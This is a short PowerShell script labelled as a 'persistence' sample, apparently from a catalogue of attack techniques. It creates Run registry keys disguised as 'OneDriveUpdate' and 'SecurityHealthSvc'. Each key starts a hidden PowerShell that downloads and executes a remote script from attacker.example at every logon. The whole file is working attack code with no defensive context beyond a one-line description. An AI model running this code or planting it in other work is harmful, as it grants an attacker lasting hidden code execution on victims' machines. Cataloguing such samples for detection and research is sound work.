# description: Registers a Run key that launches a hidden PowerShell downloading and executing a remote script at every logon.
# family: persistence
$cmd = 'powershell.exe -NoP -W Hidden -C "iex (iwr http://attacker.example/u.ps1 -UseBasicParsing).Content"'
New-ItemProperty -Path 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run' -Name 'OneDriveUpdate' -Value $cmd -PropertyType String -Force
Set-ItemProperty -Path 'HKLM:\SOFTWARE\Microsoft\Windows\CurrentVersion\Run' -Name 'SecurityHealthSvc' -Value $cmd
Get-ItemProperty 'HKCU:\Software\Microsoft\Windows\CurrentVersion\Run'
